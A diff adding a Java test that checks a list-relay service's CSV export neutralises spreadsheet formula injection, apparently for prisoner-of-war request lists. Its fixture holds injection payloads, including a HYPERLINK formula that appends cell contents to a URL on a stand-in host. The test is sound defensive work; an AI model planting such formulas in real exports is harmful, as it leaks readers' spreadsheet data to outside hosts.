@@ -157,6 +157,25 @@ class NeedToKnowTest {
     }
 
     @Test
+    void aCounterpartysListExportedAsCsvCannotRunAFormulaInTheReadersSpreadsheet() {
+        Client b = running.api(B_DESK);
+        HttpResponse<String> made = b.postJson("/api/v1/lists", """
+                {"title":"Запрос","purpose":"request","category":"pow","rows":[{"id":"1","surname":"Петров",
+                  "given_name":"Иван","unit":"=HYPERLINK(\\"http://example.org/?\\"&A1,\\"open\\")","rank":"+1","military_id":"@SUM(1)"}]}
+                """);
+        assertThat(made.statusCode()).as(made.body()).isEqualTo(201);
+        String list = Client.json(made).get("id").asString();
+        Documents.signWithServerHeldKey(running, B_DESK, Fixture.B, list);
+        assertThat(running.api(MEDIATOR_DESK).postJson("/api/v1/lists/" + list + "/relay", "{\"to\":\"ua\"}").statusCode())
+                .isEqualTo(200);
+
+        String csv = running.desk(A_DESK).get("/desk/lists/" + list + "/export/csv").body();
+
+        assertThat(csv.lines().skip(1)).isNotEmpty().allSatisfy(line -> assertThat(line.split(","))
+                .noneMatch(cell -> cell.matches("^\"?[=+@-].*")));
+    }
+
+    @Test
     void anAddresseeTheListWasNotRelayedToCannotReadItsDocument() {
         Client c = ThirdParty.api(running, ThirdParty.C_DESK);
 
